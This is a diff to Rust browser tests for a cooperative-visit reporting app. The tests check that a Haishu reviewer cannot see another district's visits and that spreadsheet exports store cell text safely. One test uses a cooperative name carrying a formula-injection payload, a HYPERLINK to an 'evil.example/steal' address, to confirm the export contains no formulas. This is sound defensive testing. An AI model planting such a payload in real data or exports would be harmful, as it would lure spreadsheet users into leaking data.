@@ -80,6 +80,15 @@ fn a_supervisors_day_in_the_browser_from_township_to_county_and_back_to_the_phon
     );
     let second = submit(&mut phone, cooperative, "账本不全", &[]);
     let return_note = "请补拍成员大会签到表";
+    // Another district's visit, which no Haishu reviewer may see.
+    let fishery = app.cooperative_id(Fixture::XiangshanFishery);
+    let mut elsewhere = app.pulled_phone(Persona::CounsellorXiangshan);
+    submit(&mut elsewhere, fishery, "象山的走访", &[]);
+    let fishery_name = app
+        .client(Persona::Admin)
+        .get_cooperative(fishery)
+        .expect("fishery")
+        .name;
 
     browser::run(
         "supervisor-day",
@@ -95,6 +104,7 @@ fn a_supervisors_day_in_the_browser_from_township_to_county_and_back_to_the_phon
             "note": injected,
             "photos": 2,
             "returnNote": return_note,
+            "elsewhere": fishery_name,
         }),
         SCENARIO_TIMEOUT,
         |_, _| json!(null),
@@ -662,5 +672,55 @@ fn the_map_plots_visits_without_tiles_and_opens_a_flagged_one() {
         &json!({ "county": Persona::SupervisorHaishu.username(), "flagged": flagged }),
         SCENARIO_TIMEOUT,
         |_, _| json!(null),
+    );
+}
+
+#[test]
+fn a_cooperative_named_like_a_formula_is_shown_and_exported_as_text() {
+    if !browser::available() {
+        return;
+    }
+    let app = TestApp::spawn();
+    let mut phone = app.pulled_phone(Persona::CounsellorHaishu);
+    let name = "=HYPERLINK(\"http://evil.example/steal\",\"点击查看\")合作社";
+    let cooperative = phone
+        .create_cooperative(name, hezuo_tests::HAISHU_VILLAGE, None)
+        .expect("create");
+    let idle = crate::cleanup::idle_visit(
+        "2026-11-10",
+        &crate::cleanup::months_ago(30),
+        hezuo_sync::model::InactiveReason::None,
+    );
+    let visit_id = crate::cleanup::record(&mut phone, cooperative, idle);
+    crate::cleanup::approve(&app, visit_id);
+
+    let reports = browser::run(
+        "formula-export",
+        &app.address,
+        PASSWORD,
+        &json!({ "county": Persona::SupervisorHaishu.username(), "name": name }),
+        SCENARIO_TIMEOUT,
+        |_, _| json!(null),
+    );
+    let path = reports.get("export").as_str().expect("a path").to_owned();
+    let bytes = std::fs::read(&path).expect("the downloaded workbook");
+    let _ = std::fs::remove_file(&path);
+    let mut workbook: calamine::Xlsx<_> =
+        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("a workbook");
+    use calamine::Reader;
+    let sheet = workbook.sheet_names()[0].clone();
+    let values = workbook.worksheet_range(&sheet).expect("sheet");
+    let found = values
+        .rows()
+        .flat_map(|row| row.iter())
+        .any(|cell| matches!(cell, calamine::Data::String(text) if text == name));
+    assert!(found, "the name is a text cell, exactly as written");
+    let formulas = workbook.worksheet_formula(&sheet).expect("formulas");
+    assert!(
+        formulas
+            .rows()
+            .flat_map(|row| row.iter())
+            .all(|f| f.is_empty()),
+        "no cell of the export is a formula"
     );
 }
